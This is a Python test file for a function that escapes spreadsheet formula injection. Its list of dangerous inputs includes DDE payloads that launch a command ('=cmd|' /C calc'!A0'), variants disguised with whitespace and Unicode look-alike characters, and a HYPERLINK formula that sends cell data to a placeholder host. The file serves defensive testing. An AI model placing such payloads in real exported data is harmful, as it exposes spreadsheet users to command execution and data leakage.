"""Texts that a spreadsheet program would take for formulas."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pmo.domain import formulas

DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u2212x",
    "text\n=1+1",
    "text\r\n  @SUM(1)",
    "text\u2028=1+1",
    "a;=1+1",
    "a, =1+1",
    "a\t=1+1",
    '=HYPERLINK("http://example.test?x="&A1,"Click")',
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_line_begins_a_formula(text: str) -> None:
    safe = formulas.guarded(text)

    assert not formulas.OPEN.search(safe)
    assert safe[0] not in "\t\r\n"
    assert formulas.unguarded(safe) == text


@pytest.mark.parametrize(
    "text",
    ["", "-5", "+7", "-12,5", "+0.25%", "12", "Семинар", "a = b", "e-mail: x@example.test", "'"],
)
def test_harmless_text_stays(text: str) -> None:
    assert formulas.guarded(text) == text


@pytest.mark.parametrize("text", ["+7 495 000-00-00", "-", "- раз\n- два"])
def test_text_that_is_no_number_is_kept_readable(text: str) -> None:
    assert formulas.guarded(text).replace("'", "") == text


@given(st.text(alphabet="=+-@\t\r\n ;,|a1\u00a0\uff1d\u2212", max_size=30))
def test_what_is_guarded_comes_back(text: str) -> None:
    safe = formulas.guarded(text)

    assert formulas.unguarded(safe) == text
    assert formulas.NUMBER.fullmatch(text) or not formulas.OPEN.search(safe)
